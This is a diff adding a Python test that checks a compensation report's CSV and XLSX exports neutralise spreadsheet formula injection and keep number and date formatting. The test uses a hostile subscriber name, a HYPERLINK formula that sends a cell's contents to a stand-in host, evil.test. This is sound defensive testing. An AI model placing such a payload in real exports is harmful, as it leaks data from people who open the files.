@@ -127,3 +127,21 @@ def test_report_build_runs_once(december_credits):
     report = CompensationReport.objects.create(month=DEC, format="xlsx")
     assert report_build(report_id=report.pk) is True
     assert report_build(report_id=report.pk) is False
+
+
+def test_a_hostile_subscriber_name_is_never_a_formula_in_the_csv_or_xlsx(december_credits):
+    _subscribers, claimant = december_credits
+    name = '=HYPERLINK("http://evil.test/?x="&C3,"Open")'
+    claimant.name = name
+    claimant.save(update_fields=["name"])
+    report = report_for_month(month=DEC)
+    rows = list(csv.reader(io.StringIO(render_csv(report).decode("utf-8-sig")), delimiter=";"))
+    assert "'" + claimant.display_name in [r[2] for r in rows]
+    sheet = load_workbook(io.BytesIO(render_xlsx(report))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    names = [row[2] for row in sheet.iter_rows(min_row=3, max_row=sheet.max_row - 1)]
+    assert claimant.display_name in [cell.value for cell in names]
+    amount, credited = sheet.cell(row=3, column=10), sheet.cell(row=3, column=2)
+    assert amount.data_type == "n" and amount.number_format == "#,##0.00"
+    assert credited.is_date and credited.number_format == "DD.MM.YYYY"
